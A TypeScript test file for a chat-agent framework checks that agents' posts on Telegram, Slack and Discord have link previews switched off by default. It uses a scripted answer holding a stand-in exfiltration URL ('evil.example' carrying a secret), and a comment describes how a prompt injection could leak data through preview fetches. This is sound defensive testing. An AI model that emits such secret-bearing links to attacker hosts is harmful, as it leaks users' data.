import { afterEach, describe, expect, it } from "vitest";
import { suppressEmbeds } from "../../channels/discord/api.js";
import { linkPreviewsFrom } from "../../src/app/world-settings-from-config.js";
import { configSchema } from "../../src/config/schema.js";
import { worldOnDiscord } from "../discord/world-discord.js";
import { ScriptedProvider } from "../fakes/scripted-provider.js";
import { worldOnSlack } from "../slack/world-slack.js";
import { ana } from "../telegram/helpers.js";
import { worldOnTelegram } from "../telegram/world-telegram.js";

const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

/** An answer with a link that a preview would make the platform fetch (what a prompt injection wants). */
const leaky = () => new ScriptedProvider(() => ({ text: "See https://evil.example/c?secret=hunter2" }));

describe("link previews of agents' posts", () => {
  it("Telegram: every sendMessage and editMessageText carries link_preview_options.is_disabled; a world with linkPreviews lets them be", async () => {
    for (const allowed of [false, true]) {
      const t = await worldOnTelegram({
        agents: [{ name: "alice", provider: leaky() }],
        world: { defaultAgent: "alice" },
        adapter: { linkPreviews: () => allowed },
      });
      closers.push(() => t.close());
      await t.say(ana, "hello");
      const calls = [...t.fake.callsTo("sendMessage"), ...t.fake.callsTo("editMessageText")];
      expect(calls.length).toBeGreaterThan(0);
      for (const call of calls) {
        expect(call.params.link_preview_options).toEqual(allowed ? undefined : { is_disabled: true });
      }
    }
  });

  it("Slack: chat.postMessage carries unfurl_links and unfurl_media false; true where the world allows", async () => {
    for (const allowed of [false, true]) {
      const t = await worldOnSlack({
        mode: "http",
        agents: [{ name: "alice", provider: leaky() }],
        world: { defaultAgent: "alice" },
        adapter: { linkPreviews: () => allowed },
      });
      closers.push(() => t.close());
      await t.say("U1ANA", "hello");
      const posts = t.fake.callsTo("chat.postMessage");
      expect(posts.length).toBeGreaterThan(0);
      for (const post of posts) {
        // Form-encoded on the wire.
        expect([post.params.unfurl_links, post.params.unfurl_media].map(String)).toEqual([
          String(allowed),
          String(allowed),
        ]);
      }
    }
  });

  it("Discord: bot and webhook posts (and their edits) carry SUPPRESS_EMBEDS; not where the world allows", async () => {
    for (const allowed of [false, true]) {
      const t = await worldOnDiscord({
        agents: [{ name: "alice", provider: leaky() }],
        world: { defaultAgent: "alice" },
        adapter: { linkPreviews: () => allowed },
      });
      closers.push(() => t.close());
      await t.say(t.ana, "hello");
      const answer = t.posts().find((post) => post.content.includes("evil.example"));
      expect(answer).toBeDefined();
      expect(answer?.webhook_id).toBeDefined();
      expect(((answer?.flags ?? 0) & suppressEmbeds) !== 0).toBe(!allowed);
    }
  });

  it("`worlds[].linkPreviews: true` turns them on for that world's chats only; off by default", () => {
    const config = configSchema.parse({
      providers: { p: { type: "openai", apiKey: "k" } },
      agents: [{ name: "alice", provider: "p", model: "m", systemPrompt: "x" }],
      worlds: [
        { name: "team", agents: ["alice"] },
        { name: "open", agents: ["alice"], linkPreviews: true },
      ],
      channels: { telegram: { token: "1:a", chats: { "-1": "team", "-2": "open", "*": "team" } } },
    });
    const previews = linkPreviewsFrom(config);
    expect(previews({ platform: "telegram", channel: "-1" })).toBe(false);
    expect(previews({ platform: "telegram", channel: "-2" })).toBe(true);
    expect(previews({ platform: "telegram", channel: "-3" })).toBe(false);
  });
});
